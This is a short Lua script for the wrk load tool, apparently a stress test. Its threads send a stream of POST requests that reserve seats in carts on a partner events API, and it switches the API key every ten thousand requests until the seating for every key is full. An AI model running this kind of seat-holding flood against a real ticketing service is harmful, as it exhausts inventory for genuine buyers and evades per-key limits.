-- Holds seats in one cart after the other, ten thousand carts a key, until the houses of all keys are full.
local threads = 0

function setup(thread)
  threads = threads + 1
  thread:set("id", threads)
end

local json = { ["Content-Type"] = "application/json" }
local body = '{"reserve":{"tickets":[{"id":"000000000001"}]}}'
local made = 0

function request()
  made = made + 1
  local key = "fill-" .. id .. "-" .. math.floor(made / 10000)
  return wrk.format("POST", "/partners/v1/events/3F00B16000000008/cart?apikey=" .. key, json, body)
end

function done(summary, latency, requests)
  io.write(string.format("failed %d\n", summary.errors.status + summary.errors.connect + summary.errors.read + summary.errors.write + summary.errors.timeout))
  io.write(string.format("rate %.1f\n", summary.requests / (summary.duration / 1e6)))
end
